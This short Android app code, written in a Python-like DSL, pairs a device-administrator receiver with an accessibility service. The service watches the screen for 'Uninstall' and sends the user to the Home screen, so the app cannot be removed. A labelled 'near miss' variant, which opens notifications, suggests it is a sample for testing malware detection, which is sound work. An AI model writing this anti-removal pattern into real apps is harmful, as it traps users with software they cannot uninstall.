permissions("INTERNET")

@receiver(permission="BIND_DEVICE_ADMIN", actions=["android.app.action.DEVICE_ADMIN_ENABLED"])
class Admin(DeviceAdminReceiver):
    def onEnabled(self, context, intent):
        pass

@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Events(AccessibilityService):
    def onAccessibilityEvent(self, event):
        window = self.getRootInActiveWindow()
        found = window.findAccessibilityNodeInfosByText("Uninstall")
        if not found.isEmpty():
            self.performGlobalAction(2)
    def onInterrupt(self):
        pass

# near miss: opens the list of notifications
@service(permission="BIND_ACCESSIBILITY_SERVICE", actions=["android.accessibilityservice.AccessibilityService"])
class Events(AccessibilityService):
    def onAccessibilityEvent(self, event):
        window = self.getRootInActiveWindow()
        found = window.findAccessibilityNodeInfosByText("Uninstall")
        if not found.isEmpty():
            self.performGlobalAction(4)
    def onInterrupt(self):
        pass
